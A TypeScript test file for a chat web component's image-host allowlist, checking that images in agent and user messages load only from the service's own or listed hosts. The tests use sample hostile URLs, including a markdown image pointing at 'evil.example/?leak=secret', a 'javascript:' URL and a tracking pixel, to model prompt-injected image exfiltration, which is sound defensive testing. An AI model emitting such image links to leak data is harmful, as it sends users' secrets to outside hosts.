import { expect, fixture, html } from '@open-wc/testing';
import type { ChatClient } from '../../src/client/chat.js';
import { imageAllowed } from '../../src/internal/safe-url.js';
import '../../src/elements/svc-chat/svc-chat.js';
import type { SvcChat } from '../../src/elements/svc-chat/svc-chat.js';
import '../../src/elements/svc-markdown/svc-markdown.js';
import type { SvcMarkdown } from '../../src/elements/svc-markdown/svc-markdown.js';
import { until } from '../helpers/browser-service.js';
import { inShadow } from '../helpers/chat-parts.js';
import { FakeChatApi } from '../helpers/fake-chat-api.js';
import { assistant, CONVERSATION, result, user } from '../helpers/records.js';

const loaded = (root: ParentNode) => [...root.querySelectorAll('img')].map((img) => img.getAttribute('src'));
const linked = (root: ParentNode) =>
  [...root.querySelectorAll<HTMLAnchorElement>('a')].filter((a) => !a.querySelector('img')).map((a) => a.href);

describe('image hosts: which images load (a prompt-injected image is a request to its host)', () => {
  it('imageAllowed: the page’s host; a listed host on any port, or on the port it names; * for any', () => {
    const page = `${location.origin}/img.png`;
    expect(imageAllowed(page, [])).to.equal(true);
    expect(imageAllowed('https://evil.example/?leak=secret', [])).to.equal(false);
    expect(imageAllowed('https://img.example/a.png', ['IMG.example'])).to.equal(true);
    expect(imageAllowed('https://img.example:8443/a.png', ['img.example'])).to.equal(true);
    expect(imageAllowed('https://img.example:8443/a.png', ['img.example:8443'])).to.equal(true);
    expect(imageAllowed('https://img.example:9000/a.png', ['img.example:8443'])).to.equal(false);
    expect(imageAllowed('https://img.example/a.png', ['img.example:443'])).to.equal(true);
    expect(imageAllowed('http://img.example/a.png', ['img.example:443'])).to.equal(false);
    expect(imageAllowed('https://img.example.evil/a.png', ['img.example'])).to.equal(false);
    expect(imageAllowed('https://anything.example/a.png', ['*'])).to.equal(true);
    expect(imageAllowed('javascript:alert(1)', ['*'])).to.equal(false);
  });

  it('<svc-markdown> loads images from the page’s own host only, until image-hosts widens it', async () => {
    const text = `![own](${location.origin}/own.png) ![leak](https://evil.example/?leak=secret)`;
    const el = await fixture<SvcMarkdown>(html`<svc-markdown .text=${text}></svc-markdown>`);
    await el.updateComplete;
    const base = el.shadowRoot!.querySelector('[part=base]')!;
    expect(loaded(base)).to.deep.equal([`${location.origin}/own.png`]);
    expect(linked(base)).to.deep.equal(['https://evil.example/?leak=secret']);
    el.imageHosts = ['*'];
    expect(loaded(base)).to.have.length(2);
  });

  it('<svc-chat> treats markdown images and agent image blocks alike: its service’s host, then image-hosts, ports and all', async () => {
    const url = (port: number, name: string) => `https://img.example:${port}/${name}.png`;
    const history = [
      user(1, 'show me'),
      assistant(2, 'm_1', [
        { type: 'text', text: `![a](${url(8443, 'md')}) ![b](${url(9000, 'md')})` },
        { type: 'image', source: { type: 'url', url: url(8443, 'block') } },
        { type: 'image', source: { type: 'url', url: url(9000, 'block') } },
        { type: 'image', source: { type: 'url', url: 'https://svc.example:8787/api/v2/files/f_x/chart.png' } },
      ]),
      result(3, 'success'),
    ];
    const render = async (imageHosts: string) => {
      const api = Object.assign(new FakeChatApi(), { http: { baseUrl: 'https://svc.example:8787' } });
      api.historyPages.push({ entries: history, hasMore: false });
      const div = await fixture<HTMLDivElement>(html`<div style="height: 600px"><svc-chat
        .client=${{ chat: api as unknown as ChatClient }} conversation-id=${CONVERSATION}
        image-hosts=${imageHosts} lang="en"></svc-chat></div>`);
      const el = div.querySelector<SvcChat>('svc-chat')!;
      const message = await until(() => inShadow(el, '[part~=message-agent]'), 'the reply');
      const markdown = message.querySelector<SvcMarkdown>('svc-markdown')!;
      await markdown.updateComplete;
      const body = message.querySelector('.body')!;
      return {
        markdown: loaded(markdown.shadowRoot!.querySelector('[part=base]')!),
        blocks: loaded(body),
        links: [...linked(markdown.shadowRoot!), ...linked(body)].filter((href) => href.includes('img.example')),
      };
    };

    const onePort = await render('img.example:8443');
    expect(onePort.markdown).to.deep.equal([url(8443, 'md')]);
    // The service's own files load without being listed.
    expect(onePort.blocks).to.deep.equal([url(8443, 'block'), 'https://svc.example:8787/api/v2/files/f_x/chart.png']);
    expect(onePort.links).to.have.members([url(9000, 'md'), url(9000, 'block')]);

    const anyPort = await render('img.example');
    expect(anyPort.markdown).to.deep.equal([url(8443, 'md'), url(9000, 'md')]);
    expect(anyPort.blocks).to.have.length(3);
    expect(anyPort.links).to.deep.equal([]);

    const none = await render('');
    expect(none.markdown).to.deep.equal([]);
    expect(none.blocks).to.deep.equal(['https://svc.example:8787/api/v2/files/f_x/chart.png']);
    expect(none.links).to.have.length(4);
  });
  it('<svc-chat> holds the visitor’s own image parts to the same hosts as an agent’s images', async () => {
    const foreign = 'https://track.example/pixel.png';
    const own = 'https://svc.example:8787/api/v2/files/f_y/photo.png';
    const history = [
      user(1, 'look', {
        parts: [
          { type: 'image_url', image_url: { url: foreign } },
          { type: 'image_url', image_url: { url: own } },
        ],
      }),
      result(2, 'success'),
    ];
    const render = async (imageHosts: string) => {
      const api = Object.assign(new FakeChatApi(), { http: { baseUrl: 'https://svc.example:8787' } });
      api.historyPages.push({ entries: history, hasMore: false });
      const div = await fixture<HTMLDivElement>(html`<div style="height: 600px"><svc-chat
        .client=${{ chat: api as unknown as ChatClient }} conversation-id=${CONVERSATION}
        image-hosts=${imageHosts} lang="en"></svc-chat></div>`);
      const el = div.querySelector<SvcChat>('svc-chat')!;
      const message = await until(() => inShadow(el, '[part~=message-user]'), 'the visitor’s message');
      return { images: loaded(message), links: linked(message) };
    };
    const none = await render('');
    expect(none.images).to.deep.equal([own], 'the service’s own upload loads');
    expect(none.links).to.deep.equal([foreign], 'another host is a link, not a request');
    const listed = await render('track.example');
    expect(listed.images).to.deep.equal([foreign, own]);
  });
});
